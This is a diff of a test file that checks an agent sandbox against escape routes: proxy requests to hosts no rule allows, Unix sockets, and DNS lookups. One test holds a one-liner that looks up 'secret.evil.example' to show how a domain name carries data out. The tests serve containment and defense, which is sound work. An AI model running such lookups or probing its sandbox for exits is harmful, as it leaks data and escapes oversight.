@@ -1,6 +1,6 @@
-"""Attack 4: a way out of the cell into the network, or to a server of this machine.
+"""Attack 4: a way out of the sandbox into the network, or to a server on this machine.
 
-The server counts who knocks. Each way is also tried with nobody on guard, to show that it would arrive.
+The server counts who knocks. Each way is also tried without the sandbox, to show that it would arrive.
 """
 
 import asyncio
@@ -78,7 +78,7 @@ def fetch(url: str) -> str:
 
 @pytest.mark.parametrize("url", REFUSED_URLS)
 async def test_the_proxy_lets_no_host_pass_that_no_rule_allows(stage: Stage, door: Door, url: str):
-    """In mode yolo everything is allowed but what is private; so this is asked in mode ask."""
+    """Mode yolo allows everything that is not private, so this test uses mode ask."""
     seen = await stage.call("bash", {"command": fetch(url.format(port=door.port))}, (), "ask")
 
     assert ("403" in seen.text or "502" in seen.text, "arrived" in seen.text, door.visits) == (True, False, 0)
@@ -187,7 +187,7 @@ async def test_no_unix_socket_is_reached_through_the_read_only_root(stage: Stage
 
 
 async def test_no_name_is_looked_up_from_inside(stage: Stage):
-    """Names carry data out: whoever asks for `secret.evil.example` has sent it."""
+    """Names carry data out: a lookup of `secret.evil.example` has already sent it."""
     script = "import socket; socket.getaddrinfo('secret.evil.example', 80)"
 
     seen = await stage.shell(f'python3 -c "{script}"')
